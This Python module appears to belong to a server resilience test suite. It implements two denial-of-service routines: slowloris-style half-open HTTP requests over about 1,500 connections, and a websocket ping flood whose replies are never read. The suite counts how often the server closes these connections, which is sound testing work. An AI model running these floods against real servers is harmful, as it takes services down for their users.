"""Attacks on connections: those that are left open, and those that nobody reads."""

import asyncio
from contextlib import suppress

from .attack import Attack, Target
from .visitor import Streams, Visitor
from .websocket import PING, frame


async def half_open(target: Target, attack: Attack) -> None:
    """Send requests that begin and never end."""
    connections: list[Streams] = []
    for _ in range(target.many(1_500)):
        with suppress(OSError):
            connections.append(await Visitor(target.address, target.source).open())
            connections[-1][1].write(b"GET /api/me HTTP/1.1\r\nHost: loc")
            attack.sent += 1
    await asyncio.sleep(target.seconds * min(1, target.scale))
    for reader, writer in connections:
        attack.closed += reader.at_eof() or reader.exception() is not None
        writer.close()


async def unread_pings(target: Target, attack: Attack) -> None:
    """Send pings whose answers nobody reads, until the socket is closed, whatever the scale.

    Much of them stays in the system's buffers before the server has to store any.
    """
    guest = await target.guest()
    async with guest.socket(await guest.table()) as (reader, writer):
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        for _ in range(20_000):
            writer.write(frame(bytes(125), PING) * 50)
            attack.sent += 50
            with suppress(OSError, TimeoutError):
                await asyncio.wait_for(writer.drain(), 0.05)
            if writer.is_closing():
                attack.closed += 1
                return
